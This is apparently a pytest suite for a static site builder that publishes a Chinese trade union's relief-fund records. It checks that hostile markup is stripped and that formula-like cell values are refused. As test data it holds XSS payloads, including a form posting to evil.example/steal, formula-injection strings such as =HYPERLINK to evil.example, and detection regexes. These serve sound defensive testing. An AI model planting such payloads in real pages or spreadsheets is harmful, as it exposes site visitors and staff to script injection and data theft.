"""Safe text everywhere: staff markdown, campaign.toml links and names, published cells, record ids.

Every example of the problem is checked on the bytes a real build writes: no
page holds a script, an event handler, a javascript: link, a meta refresh, a
form or a frame, and no published workbook holds a formula.
"""

from __future__ import annotations

import csv
import io
import re
import shutil
import zipfile
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from openpyxl import Workbook, load_workbook

from warmth.core.problems import BuildError, ConfigError, DataError
from warmth.downloads import plain
from warmth.site.sanitize import clean_html

from test_validate import EN, row, write_csv

# Each hostile construct staff might paste into markdown, with a marker of what must not survive.
HOSTILE = {
    "script": "<script>alert('x')</script>",
    "onerror": '<img src="/images/logo.png" alt="logo" onerror="alert(1)">',
    "javascript-html": '<a href="javascript:alert(1)">点这里</a>',
    "javascript-markdown": "[也点这里](javascript:alert(2))",
    "javascript-obfuscated": '<a href="JaVaScRiPt&#x3A;alert(3)">再点</a>',
    "meta-refresh": '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
    "iframe": '<iframe src="https://evil.example/frame"></iframe>',
    "form": '<form action="https://evil.example/steal" method="post"><input name="id"><button>提交</button></form>',
    "object": '<object data="https://evil.example/x.swf"></object><embed src="https://evil.example/y.swf">',
    "data-url": '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">数据</a>',
    "vbscript": '<a href="vbscript:msgbox(1)">vb</a>',
    "style": '<p style="position:fixed;top:0">盖住页面</p>',
    "handler-on-div": '<div onclick="alert(4)" onmouseover="alert(5)">悬停</div>',
    "svg": '<svg onload="alert(6)"><circle r="1"/></svg>',
    "base": '<base href="https://evil.example/">',
}
KEPT = "本批次说明正文保留"
EXTERNAL_LINK = "https://www.acftu.org/"


def hostile_markdown(title_lines: str = "") -> str:
    body = "\n\n".join(f"{html}\n" for html in HOSTILE.values())
    return (
        f"{title_lines}{KEPT}，见[全总网站]({EXTERNAL_LINK})和[下载页](/downloads/)。\n\n"
        "| 项目 | 金额 |\n|:--|--:|\n| 大米 | 12.50 |\n\n"
        f"{body}\n*强调* **加粗**\n"
    )


# The theme's own forms and scripts (the search field, the filters: README "Search"), exactly as written;
# nothing staff write can produce them (the allowlist removes every form and script).
THEME_OWN = re.compile(
    # the English pages (under /en/) have the same forms, in English
    r'<form class="(?:site-search|search-page-form)" role="search" action="[./]*(?:/en)?/search/" method="get">'
    r'|<form class="rf-form" hidden>|<form class="findings-filter js-only" hidden aria-label="(?:筛选核查结果|Filter the findings)">'
    r'|<script src="[./]*/theme/js/(?:search|records|findings)\.js" defer></script>'
    r'|<script type="application/json" (?:id="search-labels"|id="search-english"|class="rf-texts")>[^<]*</script>'
)


def unsafe_in(page: str) -> list[str]:
    """What a published page must never hold (besides the theme's own search and filter forms and scripts)."""
    page = THEME_OWN.sub("", page)
    checks = {
        "<script": r"<script",
        "on…= attribute": r"<[^>]*\son[a-z]+\s*=",
        "javascript:": r"javascript:",
        "vbscript:": r"vbscript:",
        "data: URL": r"""(?:href|src)\s*=\s*["']?\s*data:""",
        "<meta http-equiv": r"<meta[^>]*http-equiv",
        "<form": r"<form",
        "<iframe": r"<iframe",
        "<object/<embed": r"<(?:object|embed)\b",
        "<base": r"<base\b",
        "<svg in prose": r"<svg",
        "hostile style": r"position:fixed",
    }
    return [name for name, pattern in checks.items() if re.search(pattern, page, re.I)]


@pytest.fixture
def few_records(data) -> Path:
    """The default campaign with a handful of valid records: a fast real build."""
    write_csv(data / "rounds/2012-01/a.csv", EN, [row(record_id=f"A-{i}") for i in range(1, 6)])
    return data


def build_with(root, data, out, **overrides):
    from warmth.site.build import build_site

    return build_site(root, data=data, output=out, cache=None, overrides=overrides)


# --- 1. staff markdown ----------------------------------------------------------------


@pytest.mark.parametrize("name", sorted(HOSTILE))
def test_sanitiser_drops_each_hostile_construct(name):
    import markdown

    html = clean_html(markdown.markdown(f"前文\n\n{HOSTILE[name]}\n\n后文", extensions=["extra"]))
    assert not unsafe_in(html), (name, html)
    assert "前文" in html and "后文" in html


def test_sanitiser_keeps_what_narratives_need():
    import markdown

    html = clean_html(markdown.markdown(hostile_markdown() + "\n## 小标题\n\n1. 一\n2. 二\n\n> 引用\n", extensions=["extra"]))
    for kept in ("<h2>小标题</h2>", "<ol>", "<li>一</li>", "<table>", "<td>大米</td>", "<em>强调</em>", "<strong>加粗</strong>",
                 "<blockquote>", '<img src="/images/logo.png" alt="logo">', KEPT):
        assert kept in html, kept
    assert f'<a href="{EXTERNAL_LINK}" rel="noopener noreferrer">全总网站</a>' in html
    assert '<a href="/downloads/" rel="noopener noreferrer">下载页</a>' in html
    assert 'href="mailto:a@b.cn"' in clean_html('<a href="mailto:a@b.cn">信</a>')
    assert clean_html('<img src="data:image/png;base64,AAAA">') == "<img>"


def test_hostile_narrative_and_about_page_are_published_clean(tmp_path, root, few_records):
    """The real build: a round narrative and content/pages/about.md holding every hostile construct."""
    notes = tmp_path / "notes"
    notes.mkdir()
    (notes / "2012-01.md").write_text(hostile_markdown(), encoding="utf-8")
    content = tmp_path / "content"
    (content / "pages").mkdir(parents=True)
    about = (root / "content/pages/about.md").read_text(encoding="utf-8")
    (content / "pages/about.md").write_text(about + "\n\n" + hostile_markdown(), encoding="utf-8")
    out = tmp_path / "site"
    build_with(root, few_records, out, WARMTH_ROUND_NOTES=str(notes), PATH=str(content))

    pages = sorted(out.rglob("*.html"))
    assert len(pages) > 30
    for page in pages:
        assert not unsafe_in(page.read_text(encoding="utf-8")), page.relative_to(out)
    for rel in ("rounds/2012-01/index.html", "about/index.html"):
        page = (out / rel).read_text(encoding="utf-8")
        assert KEPT in page and "<td" in page and "提交" not in page, rel
        assert f'<a href="{EXTERNAL_LINK}" rel="noopener noreferrer">' in page, rel
        assert '<img src="/images/logo.png" alt="logo">' in page, rel
    assert "关于本站与监督" in (out / "about/index.html").read_text(encoding="utf-8")


def test_an_image_from_another_host_still_fails_the_build(tmp_path, root, few_records):
    content = tmp_path / "content"
    (content / "pages").mkdir(parents=True)
    (content / "pages/about.md").write_text(
        "Title: 关于\nSlug: about\nTemplate: about\n\n<img src=\"https://tracker.example/p.gif\">\n", encoding="utf-8"
    )
    with pytest.raises(BuildError, match="tracker.example"):
        build_with(root, few_records, tmp_path / "site", PATH=str(content))


# --- 2. and 3. campaign.toml ------------------------------------------------------------


def edit_campaign(data: Path, old: str, new: str) -> None:
    toml = data / "campaign.toml"
    text = toml.read_text(encoding="utf-8")
    assert old in text
    toml.write_text(text.replace(old, new, 1), encoding="utf-8")


def test_javascript_licence_url_is_refused_by_the_build(tmp_path, root, few_records):
    edit_campaign(few_records, 'url = "https://creativecommons.org/licenses/by/4.0/deed.zh-hans"', 'url = "javascript:alert(document.cookie)"')
    out = tmp_path / "site"
    with pytest.raises(ConfigError) as err:
        build_with(root, few_records, out)
    message = str(err.value)
    assert "licence.url" in message and "javascript:alert" in message
    assert message.index("链接必须以 http:// 或 https:// 开头") < message.index("a link must start with http")
    assert not out.exists()


@pytest.mark.parametrize(
    "url", ["javascript:alert(1)", " JavaScript:alert(1)", "data:text/html,x", "vbscript:x", "//evil.example/", "ftp://x.example/", "https://", "https://a b/"]
)
def test_every_url_key_must_be_http(tmp_path, root, url):
    from warmth.core.campaign import load_campaign

    folder = tmp_path / "d"
    folder.mkdir()
    shutil.copy(root / "data/campaign.toml", folder)
    edit_campaign(folder, 'name = "市直"', f'name = "市直"\nhome_url = {url!r}'.replace("'", '"'))
    with pytest.raises(ConfigError, match=r"destinations\[12\]\.home_url"):
        load_campaign(folder / "campaign.toml")


@pytest.mark.parametrize(
    ("old", "new", "key"),
    [
        ('name = "沙湾区"', 'name = "=HYPERLINK(\\"http://evil.example/\\",\\"沙湾区\\")"', "destinations[2].name"),
        ('name = "社会捐赠"', 'name = "+社会捐赠"', "fund_sources[6].name"),
        ('name = "医疗救助"', 'name = "-医疗救助"', "categories[2].name"),
        ('name = "农民工"', 'name = "@农民工"', "recipient_groups[2].name"),
        ('organization = "乐山市总工会"', 'organization = "=1+1"', "campaign.organization"),
        ('title = "乐山市总工会', 'title = "＝乐山市总工会', "campaign.title"),  # full-width: NFKC makes it "="
        ('label = "第一批（首次报送）"', 'label = "-第一批"', "rounds[1].label"),
        ('other_label = "其他"', 'other_label = "=其他"', "privacy.other_label"),
    ],
)
def test_names_that_reach_spreadsheets_must_not_start_like_formulas(tmp_path, root, old, new, key):
    from warmth.core.campaign import load_campaign

    folder = tmp_path / "d"
    folder.mkdir()
    shutil.copy(root / "data/campaign.toml", folder)
    edit_campaign(folder, old, new)
    with pytest.raises(ConfigError) as err:
        load_campaign(folder / "campaign.toml")
    assert key in str(err.value) and "不能以 = + - @" in str(err.value)


def test_hyperlink_destination_is_refused_by_the_build(tmp_path, root, few_records):
    edit_campaign(few_records, 'name = "沙湾区"', 'name = "=HYPERLINK(\\"http://evil.example/\\",\\"沙湾区\\")"')
    out = tmp_path / "site"
    with pytest.raises(ConfigError, match=r"destinations\[2\]\.name"):
        build_with(root, few_records, out)
    assert not out.exists()


# --- 4. published cells ------------------------------------------------------------------


HOSTILE_NAME = "=HYPERLINK(1)"  # no comma or quote: the records' CSV stays simple


@pytest.fixture
def hostile_destination(few_records, monkeypatch) -> Path:
    """A data folder whose destination 沙湾区 is renamed to a formula, with the campaign check switched off:
    what would reach the downloads if campaign.toml were not checked."""
    import warmth.core.campaign as campaign_module

    monkeypatch.setattr(campaign_module, "_formula_problems", lambda campaign: [])
    edit_campaign(few_records, 'name = "沙湾区"', f'name = "{HOSTILE_NAME}"')
    write_csv(few_records / "rounds/2012-01/a.csv", EN, [row(record_id=f"A-{i}", district=HOSTILE_NAME) for i in range(1, 6)])
    return few_records


def test_campaign_table_xlsx_writes_a_formula_name_as_text(hostile_destination):
    from warmth.downloads.tables import campaign_table_xlsx
    from warmth.figures.dataset import read_dataset

    ds = read_dataset(hostile_destination)
    payload = campaign_table_xlsx(ds.campaign_table, ds.campaign)
    assert not xlsx_formula_elements(payload)
    cells = {c.value: c for r in load_workbook(io.BytesIO(payload)).active.iter_rows() for c in r if c.value is not None}
    cell = cells[HOSTILE_NAME]
    assert cell.data_type == "s" and cell.quotePrefix
    assert all(c.data_type != "f" for c in cells.values())


def test_the_final_guard_refuses_a_formula_that_reaches_the_downloads(tmp_path, root, hostile_destination):
    out = tmp_path / "site"
    with pytest.raises(BuildError) as err:
        build_with(root, hostile_destination, out)
    message = str(err.value)
    assert message.startswith("下载文件中有以 = + - @")
    for rel in ("/data/disbursements.csv", "/data/summary/by-district.csv", "/data/summary/campaign-table.xlsx"):
        assert rel in message, rel
    assert not out.exists()


def xlsx_formula_elements(payload: bytes) -> list[str]:
    with zipfile.ZipFile(io.BytesIO(payload)) as book:
        return [name for name in book.namelist() if name.endswith(".xml") and re.search(rb"<(?:\w+:)?f[\s>/]", book.read(name))]


def test_default_site_downloads_are_plain(default_site):
    assert plain.formula_cells(default_site / "data") == []
    payload = (default_site / "data/summary/campaign-table.xlsx").read_bytes()
    assert not xlsx_formula_elements(payload)
    cells = [c for r in load_workbook(io.BytesIO(payload)).active.iter_rows() for c in r if c.value is not None]
    assert all(c.data_type in ("s", "n") for c in cells)
    assert any(c.data_type == "s" for c in cells) and any(c.data_type == "n" for c in cells)
    for page in default_site.rglob("*.html"):
        assert not unsafe_in(page.read_text(encoding="utf-8")), page


def test_guard_finds_formulas_in_csv_and_xlsx_and_passes_numbers(tmp_path):
    folder = tmp_path / "data"
    (folder / "summary").mkdir(parents=True)
    buffer = io.StringIO()
    csv.writer(buffer, lineterminator="\n", quoting=csv.QUOTE_ALL).writerows(
        [["name", "balance_yuan", "note"], ["沙湾区", "-12.30", "a,=b"], ["x\n-y", "+5", 'say ""=no""'], ["@SUM(A1)", "0.00", ""]]
    )
    (folder / "summary/a.csv").write_bytes(b"\xef\xbb\xbf" + buffer.getvalue().encode("utf-8"))
    (folder / "b.csv").write_bytes(b'name,amount\n=HYPERLINK("http://evil.example"),1\n-3,\tx\n')
    (folder / "empty.csv").write_bytes(b"")
    book = Workbook()
    book.active.append(["=1+1", "ok", -5])
    typed = book.create_sheet("typed")
    plain.append_text_row(typed, ["-text", "fine", 3])
    book.save(folder / "c.xlsx")
    found = plain.formula_cells(folder)
    assert [(path, value) for path, value in found if path.endswith(".csv")] == [
        ("b.csv", repr('=HYPERLINK("http://evil.example")')),
        ("b.csv", repr("\tx")),
        ("summary/a.csv", repr("@SUM(A1)")),
    ]
    shown = [value for path, value in found if path == "c.xlsx"]
    assert any("<f>" in v for v in shown) and any("A1 =1+1" in v for v in shown) and any("A1 -text" in v for v in shown)
    with pytest.raises(BuildError, match="summary/a.csv"):
        plain.check_plain_cells(folder)


FIELD = st.text(alphabet="ab1.,\"\n\r\t=+-@中 ", max_size=8)


@settings(max_examples=300, deadline=None)
@given(rows=st.lists(st.lists(FIELD, min_size=1, max_size=4), min_size=1, max_size=12),
       # (Python's writer leaves a lone CR unquoted when the line ends in LF only; its reader then splits the row)
       dialect=st.sampled_from([(csv.QUOTE_ALL, "\n"), (csv.QUOTE_ALL, "\r\n"), (csv.QUOTE_MINIMAL, "\r\n")]),
       bom=st.booleans(), chunk=st.sampled_from([1, 2, 3, 7, 64]))
def test_csv_scan_equals_a_csv_parser(tmp_path_factory, rows, dialect, bom, chunk):
    """The byte scan finds exactly the cells the csv module reads that start like a formula, across chunk edges."""
    quoting, terminator = dialect
    buffer = io.StringIO()
    csv.writer(buffer, lineterminator=terminator, quoting=quoting).writerows(rows)
    text = buffer.getvalue()
    path = tmp_path_factory.mktemp("scan") / "f.csv"
    path.write_bytes((b"\xef\xbb\xbf" if bom else b"") + text.encode("utf-8"))
    expected = [cell for r in csv.reader(io.StringIO(text, newline="")) for cell in r if plain.starts_like_formula(cell)]
    original = plain._CHUNK
    plain._CHUNK = chunk
    try:
        assert plain._csv_cells(path) == expected
    finally:
        plain._CHUNK = original


def test_corrections_published_as_written_must_not_start_like_formulas(few_records):
    from warmth.figures.dataset import read_dataset

    write_csv(
        few_records / "corrections.csv",
        ["correction_id", "record_id", "field", "old_value", "new_value", "reason", "date", "round"],
        [["C-1", "A-1", "amount_yuan", "800.00", "900.00", '=HYPERLINK("http://evil.example")', "2012-01-20", "2012-01"],
         ["-C2", "A-2", "amount_yuan", "800.00", "700.00", "录入错误", "2012-01-20", "2012-01"]],
    )
    with pytest.raises(DataError) as err:
        read_dataset(few_records)
    assert [(p.row, p.column, p.rule) for p in err.value.problems] == [(2, "reason", "formula-prefix"), (3, "correction_id", "formula-prefix")]


# --- 5. record ids -----------------------------------------------------------------------


def test_record_id_must_start_with_a_letter_or_digit(few_records):
    from warmth.figures.dataset import read_dataset

    write_csv(few_records / "rounds/2012-01/b.csv", EN,
              [row(record_id="-1-1"), row(record_id="_x"), row(record_id="1-1"), row(record_id="b_2-"), row(record_id="Z" * 64)])
    with pytest.raises(DataError) as err:
        read_dataset(few_records)
    found = [(p.row, p.value, p.rule) for p in err.value.problems]
    assert found == [(2, "-1-1", "record-id-format"), (3, "_x", "record-id-format")]
    assert "必须以字母或数字开头" in err.value.problems[0].message_zh
    assert "must start with a letter or digit" in err.value.problems[0].message_en


def test_check_report_xlsx_holds_the_bad_id_as_text(tmp_path, few_records):
    from warmth.staff.check import check_file, write_report

    incoming = tmp_path / "incoming.csv"
    write_csv(incoming, EN, [row(record_id="-1-1"), row(record_id="N-2", note="=1+1")])
    problems = check_file(few_records, incoming)
    assert {p.rule for p in problems} == {"record-id-format", "formula-prefix"}
    report = tmp_path / "out" / "report.xlsx"
    write_report(problems, few_records, report, protected=[few_records], single=incoming)
    payload = report.read_bytes()
    assert not xlsx_formula_elements(payload)
    book = load_workbook(io.BytesIO(payload))
    cells = [c for sheet in book.worksheets for r in sheet.iter_rows() for c in r if isinstance(c.value, str)]
    assert all(c.data_type == "s" for c in cells)  # text, never a formula
    kept = {c.value for c in cells if c.quotePrefix}  # and Excel keeps it text when someone edits it
    assert {"-1-1", "=1+1"} <= kept
